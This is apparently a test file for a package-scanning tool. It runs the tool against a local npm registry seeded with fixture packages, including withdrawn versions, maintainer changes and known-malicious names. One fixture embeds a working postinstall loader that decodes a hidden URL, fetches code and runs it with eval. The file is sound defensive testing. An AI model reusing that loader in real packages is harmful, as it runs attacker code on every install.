/**
 * `lurescan package` and `--online` against a real Verdaccio on loopback, with fixture packages published into it
 * by the test: a clean version, a next version that adds a postinstall loader, a holding version, a package whose
 * maintainers change, and a dependency name the registry does not have.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { startVerdaccio, type Verdaccio } from '../scripts/lib/verdaccio.mjs';
import { scan } from '../src/scan.js';
import { fetchTarball, fetchPackument, RegistryError } from '../src/registry/client.js';
import { registryOptions } from '../src/registry/config.js';
import { ROOT, tempDir } from './helpers.js';

const BIN = path.join(ROOT, 'bin', 'lurescan.cjs');
const LOADER_URL = Buffer.from('http://203.0.113.77/api/ipcheck-encrypted/42').toString('base64');

describe('registry (real Verdaccio)', function () {
  this.timeout(180_000);
  let reg: Verdaccio;
  let tmp: ReturnType<typeof tempDir>;
  let npmrc: string;

  function publish(name: string, version: string, files: Record<string, string>, manifest: Record<string, unknown> = {}, token = reg.token) {
    const dir = path.join(tmp.dir, 'pkgs', `${name.replace('/', '+')}-${version}`);
    mkdirSync(dir, { recursive: true });
    writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name, version, main: 'index.js', license: 'MIT', ...manifest }, null, 2));
    for (const [rel, text] of Object.entries(files)) {
      mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
      writeFileSync(path.join(dir, rel), text);
    }
    const rc = path.join(tmp.dir, `publish-${token.slice(0, 6)}.npmrc`);
    writeFileSync(rc, `registry=${reg.url}\n//127.0.0.1:${reg.port}/:_authToken=${token}\n`);
    execFileSync('npm', ['publish', dir, '--registry', reg.url, '--userconfig', rc, '--ignore-scripts', '--tag', version.includes('security') ? 'latest' : 'latest'], {
      stdio: 'pipe',
      env: { ...process.env, npm_config_userconfig: rc },
    });
  }

  async function addUser(name: string): Promise<string> {
    // A fresh connection each try: a pooled keep-alive socket that Verdaccio already closed fails with "other side
    // closed" on a loaded machine.
    for (let attempt = 1; ; attempt++) {
      try {
        const res = await fetch(`${reg.url}-/user/org.couchdb.user:${name}`, {
          method: 'PUT',
          headers: { 'content-type': 'application/json', connection: 'close' },
          body: JSON.stringify({ name, password: `${name}-password` }),
        });
        return ((await res.json()) as { token: string }).token;
      } catch (err) {
        if (attempt >= 3) throw err;
        await new Promise((r) => setTimeout(r, 500 * attempt));
      }
    }
  }

  before(async () => {
    tmp = tempDir('lurescan-registry-');
    reg = await startVerdaccio();
    npmrc = path.join(tmp.dir, 'user.npmrc');
    writeFileSync(npmrc, `registry=${reg.url}\n`);
    publish('left-padder', '1.0.0', { 'index.js': "module.exports = (s, n) => String(s).padStart(n);\n" });
    publish(
      'left-padder',
      '1.0.1',
      {
        'index.js': "module.exports = (s, n) => String(s).padStart(n);\n",
        'lib/setup.js': `const http = require('http');\nconst u = Buffer.from('${LOADER_URL}', 'base64').toString();\nhttp.get(u, (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n`,
      },
      { scripts: { postinstall: 'node lib/setup.js' } },
    );
    publish('colour-helpers', '0.0.1-security', { 'README.md': 'security holding package\n' });
    // Registries record the maintainers of each version; the publish document carries them.
    publish('handover-lib', '1.0.0', { 'index.js': 'module.exports = 1;\n' }, { maintainers: [{ name: 'alice', email: 'alice@example.invalid' }] });
    publish('handover-lib', '1.0.1', { 'index.js': 'module.exports = 2;\n' }, { maintainers: [{ name: 'new-owner', email: 'owner@example.invalid' }] }, await addUser('new-owner'));
  });

  function unpublish(spec: string) {
    const rc = path.join(tmp.dir, 'unpublish.npmrc');
    writeFileSync(rc, `registry=${reg.url}\n//127.0.0.1:${reg.port}/:_authToken=${reg.token}\n`);
    execFileSync('npm', ['unpublish', spec, '--force', '--registry', reg.url, '--userconfig', rc], { stdio: 'pipe', env: { ...process.env, npm_config_userconfig: rc } });
  }

  after(async () => {
    await reg?.stop();
    tmp?.cleanup();
  });

  function cli(args: string[]) {
    const r = spawnSync(process.execPath, [BIN, ...args], { encoding: 'utf8', env: { ...process.env, npm_config_userconfig: npmrc, NO_COLOR: '1' }, cwd: tmp.dir });
    return { code: r.status, stdout: r.stdout, stderr: r.stderr };
  }

  it('left-padder@1.0.1 (adds a postinstall loader) blocks, and nothing is installed', () => {
    const r = cli(['package', 'left-padder@1.0.1', '--registry', reg.url, '--format', 'json']);
    assert.equal(r.code, 1, r.stderr);
    const j = JSON.parse(r.stdout);
    assert.equal(j.verdict, 'block');
    assert.equal(j.provenance.source, 'npm:left-padder@1.0.1');
    assert.match(j.provenance.integrity, /^sha512-/);
    const ids = new Set(j.findings.map((f: { ruleId: string }) => f.ruleId));
    assert.ok(ids.has('registry-install-script-added'), [...ids].join(','));
    assert.ok(j.findings.some((f: { location: { file: string } }) => f.location.file === 'lib/setup.js'), 'the loader file is analysed');
    assert.ok(!JSON.stringify(j).includes(reg.token), 'no token in the report');
  });

  it('left-padder@1.0.0 (clean) passes with exit 0; a range resolves like npm', () => {
    const r = cli(['package', 'left-padder@1.0.0', '--registry', reg.url, '--format', 'json']);
    assert.equal(r.code, 0, r.stdout + r.stderr);
    assert.notEqual(JSON.parse(r.stdout).verdict, 'block');
    const range = cli(['package', 'left-padder@~1.0.0', '--registry', reg.url, '--format', 'json']);
    assert.equal(JSON.parse(range.stdout).provenance.source, 'npm:left-padder@1.0.1');
  });

  it('a holding version and a maintainer change are findings of their own', async () => {
    const holding = await scan({ kind: 'npm', spec: 'colour-helpers', registry: reg.url }, { registry: { npmrcTexts: [] } });
    assert.equal(holding.verdict, 'block');
    assert.ok(holding.findings.some((f) => f.ruleId === 'registry-security-holding'));
    const handover = await scan({ kind: 'npm', spec: 'handover-lib@1.0.1', registry: reg.url }, { registry: { npmrcTexts: [] } });
    const m = handover.findings.find((f) => f.ruleId === 'registry-maintainer-change');
    assert.ok(m, handover.findings.map((f) => f.ruleId).join(','));
    assert.match(m.message, /new-owner/);
  });

  it('--online flags a dependency name the registry lacks, and stays offline by default', async () => {
    const repo = path.join(tmp.dir, 'repo');
    mkdirSync(repo);
    // A scoped private name with only a range: nothing says it was ever published, so it is unclaimed (confusion), not removed.
    writeFileSync(path.join(repo, 'package.json'), JSON.stringify({ name: 'app', dependencies: { 'left-padder': '^1.0.0', '@corp-internal/auth-helpers': '^2.0.0' } }, null, 2));
    const offline = await scan({ kind: 'path', path: repo }, { registry: { registry: reg.url } });
    assert.ok(!offline.findings.some((f) => f.ruleId.startsWith('registry-')), 'no registry facts without --online');
    const online = await scan({ kind: 'path', path: repo }, { online: true, registry: { registry: reg.url }, cacheDir: path.join(tmp.dir, 'cache') });
    const missing = online.findings.find((f) => f.ruleId === 'registry-missing-package');
    assert.ok(missing, online.findings.map((f) => f.ruleId).join(','));
    assert.equal(missing.location.file, 'package.json');
    assert.ok(missing.location.line);
    // The cache answers the next scan even when the registry is gone (stale entries are a fall-back).
    const again = await scan({ kind: 'path', path: repo }, { online: true, registry: { registry: 'http://127.0.0.1:9/' }, cacheDir: path.join(tmp.dir, 'cache') });
    assert.ok(again.diagnostics.some((d) => d.code === 'registry-lookup-failed'), 'a different registry is a different cache key: failure is reported');
  });

  describe('names the registry no longer serves', () => {
    before(() => {
      // 1imit is a bundled known-malicious name (every version); it was published, then removed.
      publish('1imit', '1.0.0', { 'index.js': 'module.exports = 1;\n' });
      unpublish('1imit');
      // axios 1.14.1 is a known-malicious version; the registry withdrew it and kept its neighbours.
      for (const v of ['1.13.6', '1.14.0', '1.14.1', '1.15.0', '0.30.3']) publish('axios', v, { 'index.js': 'module.exports = {};\n' });
      unpublish('axios@1.14.1');
      // A package nobody lists, with a withdrawn version.
      for (const v of ['2.0.0', '2.1.0', '2.2.0', '10.0.0']) publish('plain-widget', v, { 'index.js': 'module.exports = 1;\n' });
      unpublish('plain-widget@2.1.0');
    });

    it('a bundled known-malicious name the registry answers 404 for blocks (exit 1) and names the record', () => {
      const r = cli(['package', '1imit', '--registry', reg.url, '--format', 'json']);
      assert.equal(r.code, 1, r.stderr);
      const j = JSON.parse(r.stdout);
      assert.equal(j.verdict, 'block');
      const f = j.findings.find((x: { ruleId: string }) => x.ruleId === 'known-malicious-package');
      assert.ok(f, JSON.stringify(j.findings));
      assert.match(f.message, /LURESCAN-NPM-1imit/);
      assert.equal(j.complete, false, 'the code could not be read: incomplete');
      assert.ok(j.diagnostics.some((d: { code: string; message: string }) => d.code === 'registry-unserved' && /not found on/.test(d.message)));
    });

    it('a known-malicious version the registry withdrew blocks; other versions answer with the nearest ones in semver order', () => {
      const r = cli(['package', 'axios@1.14.1', '--registry', reg.url, '--format', 'json']);
      assert.equal(r.code, 1, r.stderr);
      assert.match(JSON.parse(r.stdout).findings[0].message, /axios@1\.14\.1 is a known-malicious version \(LURESCAN-NPM-axios/);
      const unknown = cli(['package', 'plain-widget@2.1.0', '--registry', reg.url]);
      assert.equal(unknown.code, 2);
      assert.match(unknown.stderr, /plain-widget@2\.1\.0: no published version matches \(nearest published: 2\.0\.0, 2\.2\.0, 10\.0\.0\)/);
      const gone = cli(['package', 'no-such-package-here', '--registry', reg.url]);
      assert.equal(gone.code, 2);
      assert.match(gone.stderr, /not found on .*HTTP 404/);
    });
  });

  it('errors: unreachable (exit 2), 404, bad spec, integrity mismatch', async () => {
    const down = cli(['package', 'left-padder', '--registry', 'http://127.0.0.1:9/']);
    assert.equal(down.code, 2);
    assert.match(down.stderr, /cannot reach http:\/\/127\.0\.0\.1:9\//);
    const missing = cli(['package', 'no-such-package-here', '--registry', reg.url]);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /not found on/);
    const bad = cli(['package', 'git+https://example.invalid/x.git']);
    assert.equal(bad.code, 2);
    const opts = registryOptions({ registry: reg.url });
    const p = await fetchPackument('left-padder', opts);
    const forged = JSON.parse(JSON.stringify(p));
    forged.versions['1.0.0'].dist.integrity = 'sha512-' + Buffer.alloc(64).toString('base64');
    await assert.rejects(fetchTarball('left-padder', '1.0.0', forged, opts, 1e8), (e: unknown) => e instanceof RegistryError && e.code === 'integrity');
  });
});

describe('registry errors from a misbehaving server', () => {
  let server: import('node:http').Server;
  let url: string;
  before(async () => {
    const http = await import('node:http');
    server = http.createServer((req, res) => {
      if (req.url?.startsWith('/withdrawn-pkg') || req.url?.startsWith('/plain-crypto-js')) {
        res.writeHead(403, { 'content-type': 'application/json' });
        res.end('{"error":"This package version is not available."}');
      } else if (req.url?.startsWith('/private-pkg')) {
        res.writeHead(403, { 'content-type': 'application/json' });
        res.end('{"error":"forbidden"}');
      } else if (req.url?.startsWith('/broken-json')) {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end('{"name": "broken-json", "versions": {');
      } else {
        res.writeHead(500);
        res.end();
      }
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    url = `http://127.0.0.1:${(server.address() as import('node:net').AddressInfo).port}/`;
  });
  after(() => new Promise<void>((r) => server.close(() => r())));

  it('403 with a token says to check it; without one it says what the registry said; invalid JSON is named', async () => {
    const opts = registryOptions({ registry: url });
    const withToken = registryOptions({ registry: url, npmrcTexts: [`//127.0.0.1:${new URL(url).port}/:_authToken=npm_abcdefghijkl\n`] });
    await assert.rejects(fetchPackument('private-pkg', { ...withToken, retry: { retries: 0 } }), (e: unknown) => e instanceof RegistryError && e.code === 'unauthorized' && /check the token/.test(e.message));
    await assert.rejects(
      fetchPackument('withdrawn-pkg', { ...opts, retry: { retries: 0 } }),
      (e: unknown) => e instanceof RegistryError && e.code === 'refused' && !/token|npmrc/.test(e.message) && /HTTP 403: "This package version is not available\."/.test(e.message),
    );
    await assert.rejects(fetchPackument('broken-json', { ...opts, retry: { retries: 0 } }), (e: unknown) => e instanceof RegistryError && e.code === 'bad-response' && /invalid JSON/.test(e.message));
  });

  it('lurescan package on a 403 "not available": exit 2 with the registry\'s words for an unknown name, block for a known one', async () => {
    // Asynchronously: the server answering lives in this process.
    const run = (spec: string) =>
      new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
        const child = spawn(process.execPath, [BIN, 'package', spec, '--registry', url, '--format', 'json'], { env: { ...process.env, npm_config_userconfig: '/dev/null', NO_COLOR: '1' } });
        let stdout = '';
        let stderr = '';
        child.stdout.on('data', (d) => (stdout += d));
        child.stderr.on('data', (d) => (stderr += d));
        child.on('close', (status) => resolve({ status, stdout, stderr }));
      });
    const unknown = await run('withdrawn-pkg');
    assert.equal(unknown.status, 2);
    assert.match(unknown.stderr, /refused to serve it \(HTTP 403: "This package version is not available\."\)/);
    assert.doesNotMatch(unknown.stderr, /token|\.npmrc/);
    const known = await run('plain-crypto-js@4.2.1');
    assert.equal(known.status, 1, known.stderr);
    assert.match(JSON.parse(known.stdout).findings[0].message, /LURESCAN-NPM-plain-crypto-js/);
  });

  it('--online: a 403 "not available" on a dependency the manifest shows was published is "removed", not a token problem', async () => {
    const { lookupPackages } = await import('../src/registry/online.js');
    const diagnostics: import('../src/types.js').Diagnostic[] = [];
    const where = { file: 'package.json', line: 5 };
    const facts = await lookupPackages(
      [
        { ecosystem: 'npm', name: 'withdrawn-pkg', spec: '^1.4.0', direct: true, where, source: 'npm/package-json' },
        { ecosystem: 'npm', name: 'private-pkg', spec: '*', direct: true, where, source: 'npm/package-json' },
      ],
      { registry: { ...registryOptions({ registry: url }), retry: { retries: 0 } } },
      diagnostics,
    );
    const withdrawn = facts.packages.find((f) => f.name === 'withdrawn-pkg')!;
    assert.equal(withdrawn.removed, true);
    assert.match(withdrawn.registryAnswer!, /HTTP 403: "This package version is not available\."/);
    assert.match(withdrawn.publishedEvidence!, /\^1\.4\.0/);
    // A 403 on a name nothing shows was published is a refusal we cannot read: a failed look-up, never a fact.
    assert.ok(facts.packages.find((f) => f.name === 'private-pkg')!.error);
    assert.ok(diagnostics.some((d) => d.code === 'registry-lookup-failed'));
  });

  it('never prints an .npmrc token in an error', async () => {
    const secret = 'npm_SECRETTOKEN1234567890';
    const opts = registryOptions({ npmrcTexts: [`registry=${url}\n//127.0.0.1:${new URL(url).port}/:_authToken=${secret}\n`] });
    const err = await fetchPackument('private-pkg', { ...opts, retry: { retries: 0 } }).catch((e: Error) => e);
    assert.ok(err instanceof RegistryError);
    assert.ok(!err.message.includes(secret));
  });
});
